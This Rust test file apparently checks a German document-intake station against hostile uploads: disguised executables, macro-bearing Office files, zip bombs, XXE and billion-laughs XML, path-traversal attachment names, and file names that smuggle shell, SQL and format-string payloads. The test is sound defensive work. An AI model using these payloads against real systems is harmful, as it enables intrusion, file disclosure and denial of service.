        let opts = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Stored);
        for (name, data) in files {
            w.start_file(*name, opts).unwrap();
            std::io::Write::write_all(&mut w, data).unwrap();
        }
        w.finish().unwrap().into_inner()
    };
    let pdf_inside = text_pdf(&["Im Archiv"]);
    k.refuse("zip-named-pdf", "pdf", zip(&[("scan.pdf", &pdf_inside)]));
    let docx = zip(&[
        ("[Content_Types].xml", b"<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"),
        ("word/document.xml", b"<w:document><w:body><w:p><w:r><w:t>Antrag</w:t></w:r></w:p></w:body></w:document>"),
    ]);
    k.refuse("docx-named-pdf", "pdf", docx.clone());
    k.refuse("docx", "docx", patched(&docx, |v| v.push(0)));
    k.refuse(
        "text-named-tif",
        "tif",
        "Scan fehlgeschlagen, bitte erneut versuchen\r\n".into(),
    );
    k.refuse(
        "html-error-page-named-pdf",
        "pdf",
        b"<!DOCTYPE html><html><head><title>404 Not Found</title></head><body><h1>Not Found</h1></body></html>\n".to_vec(),
    );
    k.refuse(
        "gif",
        "gif",
        b"GIF89a\x02\x00\x02\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x00\x00\x00\x00\x00,\x00\x00\x00\x00\x02\x00\x02\x00\x00\x02\x02D\x01\x00;".to_vec(),
    );
    let mut bmp = b"BM".to_vec();
    bmp.extend_from_slice(&70u32.to_le_bytes());
    bmp.extend_from_slice(&[
        0, 0, 0, 0, 54, 0, 0, 0, 40, 0, 0, 0, 2, 0, 0, 0, 2, 0, 0, 0, 1, 0, 24, 0,
    ]);
    bmp.extend_from_slice(&[0; 24]);
    bmp.extend_from_slice(&[0xFF; 16]);
    k.refuse("bmp", "bmp", bmp);
    k.refuse(
        "webp",
        "webp",
        cat(&[
            b"RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00",
            &Rng(0x5EED_0010).bytes(24),
        ]),
    );
    k.refuse(
        "heic-ftyp",
        "heic",
        cat(&[
            b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic",
            &Rng(0x5EED_0011).bytes(500),
        ]),
    );
    k.refuse(
        "postscript-named-pdf",
        "pdf",
        b"%!PS-Adobe-3.0\n%%Pages: 1\n/Helvetica findfont 12 scalefont setfont 72 720 moveto (Antrag) show showpage\n%%EOF\n".to_vec(),
    );
    k.refuse(
        "thumbs-db",
        "db",
        cat(&[b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", &[0u8; 504]]),
    );
    k.add(
        "appledouble-resource-fork",
        "pdf",
        cat(&[
            b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        ",
            &[0u8; 60],
        ]),
        Expect::Refuse,
    );
    k.list.last_mut().unwrap().file = "._scan-0001.pdf".into();
    k.refuse("nul-filled-200kb", "tif", vec![0; 200_000]);
    k.refuse(
        "elf-executable-named-pdf",
        "pdf",
        cat(&[b"\x7fELF\x02\x01\x01\0", &Rng(0x5EED_0012).bytes(4000)]),
    );
    k.refuse(
        "windows-exe-double-extension",
        "exe",
        cat(&[b"MZ\x90\x00", &Rng(0x5EED_0013).bytes(4000)]),
    );
    k.list.last_mut().unwrap().file = "scan.pdf.exe".into();
    k.refuse(
        "gzip-of-a-pdf",
        "gz",
        cat(&[
            b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03",
            &Rng(0x5EED_0014).bytes(3000),
        ]),
    );
    let p = k.valid_png();
    k.refuse("base64-text-of-a-png", "png", base64(&p).into_bytes());
    let j = jpeg_page(200, 280, 4711);
    k.refuse("tiff-magic-then-jpeg", "tif", cat(&[b"II*\0", &j[4..]]));
    let p = k.valid_png();
    k.refuse(
        "jpeg-magic-then-png",
        "jpg",
        cat(&[b"\xff\xd8\xff\xe0", &p[4..]]),
    );
    k.refuse("jpeg-soi-eoi-only", "jpg", b"\xff\xd8\xff\xd9".to_vec());
    k.refuse(
        "png-signature-and-iend-only",
        "png",
        cat(&[b"\x89PNG\r\n\x1a\n", &png_chunk(b"IEND", &[])]),
    );
    k.refuse(
        "svg-named-png",
        "png",
        b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><rect width=\"10\" height=\"10\"/></svg>".to_vec(),
    );
    k.refuse(
        "windows-shortcut",
        "lnk",
        cat(&[
            b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F",
            &[0u8; 56],
        ]),
    );
    k.list.last_mut().unwrap().file = "scan.pdf.lnk".into();
    k.refuse(
        "desktop-ini",
        "ini",
        b"[.ShellClassInfo]\r\nIconResource=C:\\Windows\\system32\\imageres.dll,-3\r\n".to_vec(),
    );
    k.list.last_mut().unwrap().file = "desktop.ini".into();
    k.add(
        "utf8-bom-before-pdf",
        "pdf",
        cat(&[b"\xef\xbb\xbf", &text_pdf(&["Mit BOM"])]),
        Expect::EitherPages(1),
    );
    let utf16: Vec<u8> = "\u{feff}Scan 0001"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    k.refuse("utf16-text-named-tif", "tif", utf16);
    k.refuse(
        "random-8mb-named-tif",
        "tif",
        Rng(0x5EED_0015).bytes(8 << 20),
    );
    k.heavy();
    k.refuse(
        "jpeg2000-jp2",
        "jp2",
        cat(&[
            b"\0\0\0\x0cjP  \r\n\x87\n\0\0\0\x14ftypjp2 ",
            &Rng(0x5EED_0016).bytes(2000),
        ]),
    );
    k.refuse(
        "jbig2-file",
        "jb2",
        cat(&[b"\x97JB2\r\n\x1a\n\x01", &Rng(0x5EED_0017).bytes(2000)]),
    );
    k.refuse(
        "djvu",
        "djvu",
        cat(&[b"AT&TFORM\0\0\x08\0DJVUINFO", &Rng(0x5EED_0018).bytes(2000)]),
    );
    k.refuse("office-lock-file", "docx", b"\x0bMax Muster".to_vec());
    k.list.last_mut().unwrap().file = "~$antrag.docx".into();
}

fn base64(data: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut s = String::new();
    for (i, c) in data.chunks(3).enumerate() {
        let n = (u32::from(c[0]) << 16)
            | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
            | u32::from(*c.get(2).unwrap_or(&0));
        for j in 0..4 {
            if j <= c.len() {
                s.push(A[(n >> (18 - 6 * j)) as usize & 63] as char);
            } else {
                s.push('=');
            }
        }
        if i % 19 == 18 {
            s.push_str("\r\n");
        }
    }
    s
}

fn name_kinds(k: &mut Scans) {
    let named = |k: &mut Scans, name: &str, file: OsString| {
        let p = k.valid_png();
        k.push(name, file, p, Expect::Accept(1));
    };
    let latin1 =
        |s: &str| -> OsString { OsString::from_vec(s.chars().map(|c| c as u32 as u8).collect()) };
    named(k, "name-latin1-bytes", latin1("Bescheid_Müller_Größe.png"));
    named(
        k,
        "name-250-bytes",
        format!("{}.png", "a".repeat(246)).into(),
    );
    named(
        k,
        "name-250-bytes-umlauts",
        format!("{}.png", "ä".repeat(123)).into(),
    );
    named(
        k,
        "name-255-bytes",
        format!("{}.png", "b".repeat(251)).into(),
    );
    named(k, "name-newline", "scan\nrm -rf.png".into());
    named(k, "name-carriage-return-and-tab", "scan\r\t0001.png".into());
    named(k, "name-leading-dash", "-rf.png".into());
    named(k, "name-double-dash-option", "--help.png".into());
    named(k, "name-spaces-around", "  Scan 0001  .png".into());
    named(k, "name-trailing-space", "scan-0002.png ".into());
    named(k, "name-trailing-dot", "scan-0003.png.".into());
    named(k, "name-only-extension", ".png".into());
    named(k, "name-no-extension", "SCAN0001".into());
    named(k, "name-upper-case-extension", "SCAN0002.PNG".into());
    named(k, "name-windows-reserved", "CON.png".into());
    named(k, "name-backslashes", "C:\\Scans\\2024\\brief.png".into());
    named(k, "name-rtl-override", "rechnung\u{202e}gnp.exe.png".into());
    named(
        k,
        "name-zero-width-and-bom",
        "sc\u{200b}an\u{feff}.png".into(),
    );
    named(k, "name-emoji", "📄 Antrag 👍.png".into());
    named(k, "name-nfd-umlaut", "Mu\u{308}ller.png".into());
    named(
        k,
        "name-terminal-escape",
        "\u{1b}[31mrot\u{1b}[0m\u{7}.png".into(),
    );
    named(
        k,
        "name-shell-metacharacters",
        "$(reboot);`id`|&>x.png".into(),
    );
    named(
        k,
        "name-sql-injection",
        "'; DROP TABLE source_files;--.png".into(),
    );
    named(k, "name-format-string", "%s%n%x%%.png".into());
    named(k, "name-double-dot", "..png".into());
    named(k, "name-ntfs-stream", "scan:Zone.Identifier.png".into());
    named(k, "name-windows-illegal-characters", "*?<>|\".png".into());
    named(k, "name-only-spaces", "   ".into());
    named(k, "name-office-lock-prefix", "~$scan.png".into());
    named(
        k,
        "name-url-encoded",
        "scan%2F..%2F..%2Fetc%2Fpasswd.png".into(),
    );
    let p = k.valid_png();
    k.add("name-png-called-jpg", "jpg", p, Expect::EitherPages(1));
    let s = k.seed();
    k.add(
        "name-jpeg-called-pdf",
        "pdf",
        jpeg_page(200, 280, s),
        Expect::EitherPages(1),
    );
    let seeds = [k.seed(), k.seed()];
    k.add(
        "name-tiff-called-png",
        "png",
        tiff_pages(120, 170, &seeds),
        Expect::EitherPages(2),
    );
    let s = k.seed();
    let j = jpeg_page(200, 280, s);
    k.push(
        "name-latin1-damaged",
        latin1("Schäden_ß.jpg"),
        j[..j.len() / 2].to_vec(),
        Expect::Refuse,
    );
    let s = k.seed();
    let j = jpeg_page(200, 280, s);
    k.push(
        "name-newline-damaged",
        "kaputt\nzeile.jpg".into(),
        j[..j.len() / 2].to_vec(),
        Expect::Refuse,
    );
    let s = k.seed();
    let j = jpeg_page(200, 280, s);
    k.push(
        "name-255-bytes-damaged",
        format!("{}.jpg", "c".repeat(251)).into(),
        j[..j.len() / 2].to_vec(),
        Expect::Refuse,
    );
    let s = k.seed();
    let j = jpeg_page(200, 280, s);
    k.push(
        "name-255-bytes-umlauts-damaged",
        format!("{}x.jpg", "ö".repeat(125)).into(),
        j[..j.len() / 2].to_vec(),
        Expect::Refuse,
    );
    let p = k.valid_png();
    k.push(
        "name-in-subfolder-with-spaces",
        "Unter Ordner/scan 0001.png".into(),
        p,
        Expect::EitherPages(1),
    );
}

fn duplicate_kinds(k: &mut Scans) {
    let p = k.valid_png();
    k.push(
        "duplicate-original",
        "doppelt-a.png".into(),
        p.clone(),
        Expect::Accept(1),
    )
    .control = true;
    k.push(
        "duplicate-other-name",
        "doppelt-b.png".into(),
        p.clone(),
        Expect::Duplicate,
    )
    .repeat = true;
    k.push(
        "duplicate-same-name-again",
        "doppelt-a.png".into(),
        p,
        Expect::Duplicate,
    )
    .repeat = true;
    let s = k.seed();
    let j = jpeg_page(200, 280, s);
    let broken = j[..j.len() / 3].to_vec();
    k.push(
        "damaged-first",
        "kaputt-doppelt-1.jpg".into(),
        broken.clone(),
        Expect::Refuse,
    );
    k.push(
        "damaged-same-content-again",
        "kaputt-doppelt-2.jpg".into(),
        broken,
        Expect::Refuse,
    )
    .repeat = true;
    // A scanner whose counter started again: other content, same name.
    let (s1, s2) = (k.seed(), k.seed());
    let (j1, j2) = (jpeg_page(200, 280, s1), jpeg_page(200, 280, s2));
    k.push(
        "same-name-damaged-1",
        "scan.jpg".into(),
        j1[..j1.len() / 2].to_vec(),
        Expect::Refuse,
    );
    k.push(
        "same-name-damaged-2",
        "scan.jpg".into(),
        j2[..j2.len() / 2].to_vec(),
        Expect::Refuse,
    );
    let (a, b) = (k.valid_png(), k.valid_png());
    k.push("same-name-valid-1", "scan.png".into(), a, Expect::Accept(1));
    k.push("same-name-valid-2", "scan.png".into(), b, Expect::Accept(1));
}

/// Longest an Office file may take at intake (LibreOffice converts it).
const OFFICE_BUDGET: Duration = Duration::from_secs(60);

/// Office files as strangers send them, hostile or broken: `(name, file
/// name, bytes, expectation, control)`.
fn office_kinds() -> Vec<(&'static str, String, Vec<u8>, Expect, bool)> {
    use common::office;
    let letter: &[&str] = &[
        "Erika Mustermann, Lindenstraße 12, 32423 Minden",
        "Antrag auf Übernahme der Kosten für die Klassenfahrt",
        "Mit freundlichen Grüßen",
    ];
    let docx_parts = office::docx_parts(letter);
    let odt_parts = office::odt_parts(letter);
    let with = |parts: &[(&'static str, Vec<u8>)], extra: &[(&'static str, Vec<u8>)]| {
        let mut v = parts.to_vec();
        v.extend_from_slice(extra);
        v
    };
    let docx = office::docx(letter);
    let docm = office::zip_parts(
        &with(&docx_parts, &[("word/vbaProject.bin", vec![0xCC; 2048])]),
        false,
    );
    let fib = |encrypted: bool| {
        let mut fib = vec![0u8; 1024];
        fib[0] = 0xEC;
        fib[1] = 0xA5;
        if encrypted {
            fib[0x0B] = 0x01;
        }
        fib
    };
    let mut list: Vec<(&'static str, String, Vec<u8>, Expect, bool)> = Vec::new();
    let mut add = |name: &'static str, ext: &str, bytes: Vec<u8>, expect: Expect| {
        let control = matches!(expect, Expect::Accept(_));
        list.push((name, format!("{name}.{ext}"), bytes, expect, control));
    };
    add(
        "office-control-docx",
        "docx",
        docx.clone(),
        Expect::Accept(1),
    );
    add(
        "office-control-odt",
        "odt",
        office::odt(letter),
        Expect::Accept(1),
    );
    add(
        "office-control-rtf",
        "rtf",
        office::rtf(letter),
        Expect::Accept(1),
    );
    add(
        "office-control-txt-latin1",
        "txt",
        "Änderungsmitteilung\r\nUmzug zum 1. März\r\n"
            .chars()
            .map(|c| c as u8)
            .collect(),
        Expect::Accept(1),
    );
    let docm_for_mail = docm.clone();
    add(
        "office-docm-vba-project",
        "docx",
        docm_for_mail.clone(),
        Expect::Refuse,
    );
    add(
        "office-docx-vba-data",
        "docx",
        office::zip_parts(
            &with(
                &docx_parts,
                &[("word/vbaData.xml", b"<wne:vbaSuppData/>".to_vec())],
            ),
            false,
        ),
        Expect::Refuse,
    );
    add(
        "office-xlsm-vba-project",
        "xlsx",
        office::zip_parts(
            &[
                (
                    "[Content_Types].xml",
                    br#"<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>"#.to_vec(),
                ),
                ("xl/workbook.xml", b"<workbook/>".to_vec()),
                ("xl/vbaProject.bin", vec![0xCC; 2048]),
            ],
            false,
        ),
        Expect::Refuse,
    );
    add(
        "office-odt-basic-macro",
        "odt",
        office::zip_parts(
            &with(
                &odt_parts,
                &[(
                    "Basic/Standard/Module1.xml",
                    b"<script:module>Sub Main\nEnd Sub</script:module>".to_vec(),
                )],
            ),
            true,
        ),
        Expect::Refuse,
    );
    add(
        "office-odt-python-script",
        "odt",
        office::zip_parts(
            &with(
                &odt_parts,
                &[(
                    "Scripts/python/run.py",
                    b"import os\nos.system('id')\n".to_vec(),
                )],
            ),
            true,
        ),
        Expect::Refuse,
    );
    add(
        "office-doc-macros-storage",
        "doc",
        office::compound(&[
            ("/WordDocument", fib(false)),
            ("/Macros/VBA/dir", vec![1; 64]),
        ]),
        Expect::Refuse,
    );
    add(
        "office-xls-vba-project",
        "xls",
        office::compound(&[
            (
                "/Workbook",
                vec![0x09, 0x08, 0x10, 0x00, 0x00, 0x06, 0x05, 0x00],
            ),
            ("/_VBA_PROJECT_CUR/VBA/dir", vec![1; 64]),
        ]),
        Expect::Refuse,
    );
    add(
        "office-docx-with-embedded-docm",
        "docx",
        office::zip_parts(
            &with(&docx_parts, &[("word/embeddings/Dokument1.docm", docm)]),
            false,
        ),
        Expect::Refuse,
    );
    // Containers in containers, deeper than anyone writes them.
    let mut deep = docx.clone();
    for _ in 0..5 {
        deep = office::zip_parts(
            &with(&docx_parts, &[("word/embeddings/innen.docx", deep)]),
            false,
        );
    }
    add("office-docx-nested-6-deep", "docx", deep, Expect::Refuse);
    add(
        "office-docx-zip-bomb-400mb",
        "docx",
        office::zip_parts(
            &with(
                &docx_parts,
                &[("word/media/image1.png", vec![0; 400 << 20])],
            ),
            false,
        ),
        Expect::Refuse,
    );
    let many: Vec<(String, Vec<u8>)> = (0..25_000)
        .map(|i| (format!("word/media/p{i}.xml"), Vec::new()))
        .collect();
    let mut parts: Vec<(&str, Vec<u8>)> = docx_parts.iter().map(|(n, b)| (*n, b.clone())).collect();
    parts.extend(many.iter().map(|(n, b)| (n.as_str(), b.clone())));
    add(
        "office-docx-25000-entries",
        "docx",
        office::zip_parts(&parts, false),
        Expect::Refuse,
    );
    let mut entity = docx_parts.clone();
    entity[2].1 = br#"<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"#.to_vec();
    add(
        "office-docx-external-entity",
        "docx",
        office::zip_parts(&entity, false),
        Expect::Refuse,
    );
    let mut laughs = docx_parts.clone();
    laughs[2].1 = br#"<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&c;</w:t></w:r></w:p></w:body></w:document>"#.to_vec();
    add(
        "office-docx-billion-laughs",
        "docx",
        office::zip_parts(&laughs, false),
        Expect::Refuse,
    );
    add(
        "office-ooxml-password",
        "docx",
        office::compound(&[
            ("/EncryptionInfo", vec![4, 0, 4, 0, 0x40, 0, 0, 0]),
            ("/EncryptedPackage", vec![0x5A; 4096]),
        ]),
        Expect::Refuse,
    );
    add(
        "office-doc-password",
        "doc",
        office::compound(&[("/WordDocument", fib(true)), ("/1Table", vec![0; 512])]),
        Expect::Refuse,
    );
    add(
        "office-rtf-embedded-object",
        "rtf",
        b"{\\rtf1\\ansi Brief {\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105000002000000}}}".to_vec(),
        Expect::Refuse,
    );
    add(
        "office-docx-cut-in-half",
        "docx",
        docx[..docx.len() / 2].to_vec(),
        Expect::Refuse,
    );
    add(
        "office-docx-deflate-garbled",
        "docx",
        patched(&docx, |v| {
            let n = v.len();
            for b in &mut v[n / 3..n / 3 + 64] {
                *b ^= 0x5A;
            }
        }),
        Expect::Refuse,
    );
    add(
        "office-pptx-slides",
        "pptx",
        office::zip_parts(
            &[(
                "[Content_Types].xml",
                br#"<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>"#.to_vec(),
            ), ("ppt/presentation.xml", b"<p:presentation/>".to_vec())],
            false,
        ),
        Expect::Refuse,
    );
    add(
        "office-odp-slides",
        "odp",
        office::zip_parts(
            &[
                (
                    "mimetype",
                    b"application/vnd.oasis.opendocument.presentation".to_vec(),
                ),
                ("content.xml", b"<office:document-content/>".to_vec()),
            ],
            true,
        ),
        Expect::Refuse,
    );
    add(
        "office-outlook-msg",
        "msg",
        office::compound(&[
            (
                "/__substg1.0_0037001F",
                "Betreff"
                    .encode_utf16()
                    .flat_map(u16::to_le_bytes)
                    .collect(),
            ),
            ("/__properties_version1.0", vec![0; 32]),
        ]),
        Expect::Refuse,
    );
    add(
        "office-compound-of-nothing-known",
        "doc",
        office::compound(&[("/Irgendwas", vec![7; 600])]),
        Expect::Refuse,
    );
    add(
        "office-txt-that-is-binary",
        "txt",
        (0..4096u32)
            .map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8)
            .collect(),
        Expect::Refuse,
    );
    // E-mails: a scanner's mail named .pdf is still a mail; malformed MIME.
    let mail_with = |headers: &str, body: &str| format!("{headers}\r\n\r\n{body}").into_bytes();
    let head = "From: scanner@jobcenter.example\r\nTo: poststelle@jobcenter.example\r\nSubject: Scan\r\nDate: Thu, 3 Dec 2026 10:00:00 +0100\r\nMIME-Version: 1.0";
    let pdf_b64 = base64(&text_pdf(&["Anhang"]));
    add(
        "mail-control-scanner-mail-named-pdf",
        "pdf",
        mail_with(
            &format!("{head}\r\nContent-Type: multipart/mixed; boundary=\"b\""),
            &format!(
                "--b\r\nContent-Type: text/plain\r\n\r\nIhr Scan.\r\n--b\r\nContent-Type: application/pdf; name=\"scan.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{pdf_b64}\r\n--b--\r\n"
            ),
        ),
        Expect::Accept(2),
    );
    add(
        "mail-control-signed-text-only",
        "eml",
        mail_with(
            &format!(
                "{head}\r\nContent-Type: multipart/signed; boundary=\"s\"; protocol=\"application/pkcs7-signature\""
            ),
            "--s\r\nContent-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nSch=F6ne Gr=FC=DFe\r\n--s\r\nContent-Type: application/pkcs7-signature; name=\"smime.p7s\"\r\nContent-Transfer-Encoding: base64\r\n\r\nMIIBAAAA\r\n--s--\r\n",
        ),
        Expect::Accept(1),
    );
    add(
        "mail-attachment-named-to-escape",
        "eml",
        mail_with(
            &format!("{head}\r\nContent-Type: multipart/mixed; boundary=\"b\""),
            &format!(
                "--b\r\nContent-Type: application/pdf; name=\"../../../../etc/cron.d/x.pdf\"\r\nContent-Disposition: attachment; filename=\"..\\\\..\\\\boot.ini.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{pdf_b64}\r\n--b--\r\n"
            ),
        ),
        Expect::Accept(2),
    );
    add(
        "mail-boundary-never-closed",
        "eml",
        mail_with(
            &format!("{head}\r\nContent-Type: multipart/mixed; boundary=\"b\""),
            &format!(
                "--b\r\nContent-Type: text/plain\r\n\r\nText\r\n--b\r\nContent-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
                &pdf_b64[..pdf_b64.len() / 2]
            ),
        ),
        Expect::Either,
    );
    add(
        "mail-multipart-without-boundary",
        "eml",
        mail_with(
            &format!("{head}\r\nContent-Type: multipart/mixed"),
            "--x\r\nText\r\n--x--\r\n",
        ),
        Expect::Either,
    );
    add(
        "mail-base64-garbage-pdf",
        "eml",
        mail_with(
            &format!("{head}\r\nContent-Type: multipart/mixed; boundary=\"b\""),
            "--b\r\nContent-Type: application/pdf; name=\"a.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!!####$$$$%%%%\r\n--b--\r\n",
        ),
        Expect::Refuse,
    );
    let mut nested = mail_with(head, "innen");
    for i in 0..12 {
        nested = mail_with(
            &format!("{head}\r\nContent-Type: multipart/mixed; boundary=\"n{i}\""),
            &format!(
                "--n{i}\r\nContent-Type: message/rfc822\r\n\r\n{}\r\n--n{i}--\r\n",
                String::from_utf8_lossy(&nested)
            ),
        );
    }
    add("mail-nested-12-deep", "eml", nested, Expect::Either);
    let many: String = (0..80)
        .map(|i| format!("--b\r\nContent-Type: text/plain; name=\"n{i}.txt\"\r\nContent-Disposition: attachment; filename=\"n{i}.txt\"\r\n\r\nNotiz {i}\r\n"))
        .collect();
    add(
        "mail-80-attachments",
        "eml",
        mail_with(
            &format!("{head}\r\nContent-Type: multipart/mixed; boundary=\"b\""),
            &format!("{many}--b--\r\n"),
        ),
        Expect::Refuse,
    );
    // An endless HTML mail: 20 MB of nested markup and repeated text.
    let mut html = String::from("<html><body>");
    html.push_str(&"<div><table><tr><td>".repeat(20_000));
    while html.len() < 20 << 20 {
        html.push_str("<p>Bitte beachten Sie unser Angebot &amp; <b>mehr</b> <img src=\"https://tracker.example/x.gif\"></p>");
    }
    add(
        "mail-endless-html",
        "eml",
        mail_with(
            &format!("{head}\r\nContent-Type: text/html; charset=utf-8"),
            &html,
        ),
        Expect::Either,
    );
    add(
        "mail-headers-only",
        "eml",
        format!("{head}\r\n").into_bytes(),
        Expect::Either,
    );
    add(
        "mail-nul-in-headers-unknown-charset",
        "eml",
        mail_with(
            "From: a\0b@example.org\r\nSubject: =?x-unbekannt?q?Gr=FC=DFe?=\r\nDate: gestern\r\nContent-Type: text/plain; charset=x-unbekannt",
            "Text \0 mit Nullbyte",
        ),
        Expect::Either,
    );
    add(
        "mail-attachment-with-macros",
        "eml",
        mail_with(
            &format!("{head}\r\nContent-Type: multipart/mixed; boundary=\"b\""),
            &format!(
                "--b\r\nContent-Type: application/octet-stream; name=\"antrag.docx\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n--b--\r\n",
                base64(&docm_for_mail)
            ),
        ),
        Expect::Refuse,
    );
    add(
        "mail-msg-attachment-with-macros",
        "msg",
        mail::outlook_msg(
            ("Max", "max@example.org"),
            ("Jobcenter", "post@jobcenter.example"),
            "Antrag",
            "Anbei.",
            &[("antrag.docx", &docm_for_mail)],
        ),
        Expect::Refuse,
    );
    add(
        "mail-control-outlook-msg",
        "msg",
        mail::outlook_msg(
            ("Max", "max@example.org"),
            ("Jobcenter", "post@jobcenter.example"),
            "Scan",
            "Anbei der Scan.",
            &[("scan.pdf", &text_pdf(&["Anhang aus Outlook"]))],
        ),
        Expect::Accept(2),
    );
    add(
        "mail-attachment-zip",
        "eml",
        mail_with(
            &format!("{head}\r\nContent-Type: multipart/mixed; boundary=\"b\""),
            &format!(
                "--b\r\nContent-Type: application/zip; name=\"unterlagen.zip\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n--b--\r\n",
                base64(&office::zip_parts(&[("scan.pdf", text_pdf(&["x"]))], false))
            ),
        ),
        Expect::Refuse,
    );
    add(
        "mail-attachment-exe",
        "eml",
        mail_with(
            &format!("{head}\r\nContent-Type: multipart/mixed; boundary=\"b\""),
            &format!(
                "--b\r\nContent-Type: application/x-msdownload; name=\"rechnung.pdf.exe\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n--b--\r\n",
                base64(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00PE\0\0")
            ),
        ),
        Expect::Refuse,
    );
    add(
        "office-docx-without-document",
        "docx",
        office::zip_parts(&docx_parts[..2], false),
        Expect::Either,
    );
    add(
        "office-docx-document-not-xml",
        "docx",
        office::zip_parts(
            &[
                docx_parts[0].clone(),
                docx_parts[1].clone(),
                ("word/document.xml", vec![0xFF; 3000]),
            ],
            false,
        ),
        Expect::Either,
    );
    list
}

/// Office files through `take_file` with the real LibreOffice: refused in
/// German before it opens them, or converted within [`OFFICE_BUDGET`];
/// nothing lost, no converter left running.
fn office_files(dir: &Path, t: &mut Tally) {
    let home = dir.join("office-home");
    let hot = dir.join("office-hot");
    std::fs::create_dir_all(&hot).unwrap();
    let mut station = station(&home);
    let profile = test_profile(&hot, 100, "");
    let opts = hot_folder_options();
    let debug = std::env::var_os("HOSTILE_DEBUG").is_some();
    for (name, file, bytes, expect, control) in office_kinds() {
        let path = hot.join(&file);
        std::fs::write(&path, &bytes).unwrap();
        dump(name, &bytes);
        let sha = Sha256Hex::of(&bytes).to_string();
        let mut p = Problems::default();
        let started = Instant::now();
        let out = catch_unwind(AssertUnwindSafe(|| {
            take_file(&mut station, &profile, &path, &opts)
        }));
        let took = started.elapsed();
        if took > OFFICE_BUDGET {
            p.mishandled(format!("take_file took {:.1} s", took.as_secs_f64()));
        }
        if debug {
            println!(
                "hostile: {name}: {:.1} s, {}",
                took.as_secs_f64(),
                short(&format!("{out:?}"))
            );
        }
        let decoded: DecodeSummary = match expect {
            Expect::Accept(n) | Expect::EitherPages(n) => Ok(vec![(1, 1, 1); n]),
            _ => Err("Office-Datei".into()),
        };
        match out {
            Err(panic) => p.crash(format!("take_file panicked: {}", panic_text(&*panic))),
            Ok(Err(e)) => p.mishandled(format!("take_file failed: {e}")),
            Ok(Ok(o)) => {
                if let (Expect::Either, Outcome::Ingested(_)) = (&expect, &o) {
                } else {
                    judge_outcome(&expect, false, &decoded, &o, &path, &mut p);
                }
                let recorded = station
                    .store
                    .sources()
                    .unwrap()
                    .iter()
                    .any(|s| s.sha.to_string() == sha)
                    || station
                        .store
                        .quarantine_entries()
                        .unwrap()
                        .iter()
                        .any(|q| q.sha == sha);
                if !recorded {
                    p.lost("neither recorded nor quarantined");
                }
            }
        }
        // No LibreOffice of this station outlives its file.
        let work = home.join("convert").display().to_string();
        for entry in std::fs::read_dir("/proc").unwrap().flatten() {
            if let Ok(cmd) = std::fs::read(entry.path().join("cmdline"))
                && String::from_utf8_lossy(&cmd).contains(&work)
            {
                p.mishandled("a converter is still running");
            }
        }
        if std::fs::read_dir(home.join("convert")).is_ok_and(|mut d| d.next().is_some()) {
            p.mishandled("the conversion's work folder was left behind");
        }
        t.record(name, control, p.verdict());
    }
}

type DecodeSummary = Result<Vec<(u32, u32, usize)>, String>;

struct Taken {
    name: String,
    path: PathBuf,
    sha: String,
    ingested: bool,
    stored_as: Option<PathBuf>,
}

fn scanner_files(dir: &Path, t: &mut Tally) {
    let home = dir.join("home");
    let hot = dir.join("hot");
    std::fs::create_dir_all(&hot).unwrap();
    let mut station = station(&home);
    let profile = test_profile(&hot, 100, "");
    let opts = hot_folder_options();
    let mut seen: HashMap<String, String> = HashMap::new();
    let mut taken: Vec<Taken> = Vec::new();
    let debug = std::env::var_os("HOSTILE_DEBUG").is_some();
    let mut last_hwm = peak_rss_kb();
    for s in scan_kinds() {
        let sha = Sha256Hex::of(&s.bytes).to_string();
        if let Some(first) = seen.get(&sha) {
            assert!(s.repeat, "test bug: {} has the bytes of {first}", s.name);
        }
        seen.entry(sha.clone()).or_insert_with(|| s.name.clone());
        let path = hot.join(&s.file);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, &s.bytes).unwrap();
        dump(&s.name, &s.bytes);
        let mut p = Problems::default();
        let started = Instant::now();
        let decoded: DecodeSummary = if s.isolate {
            match isolated_probe("decode", &path) {
                Ok(probe) => {
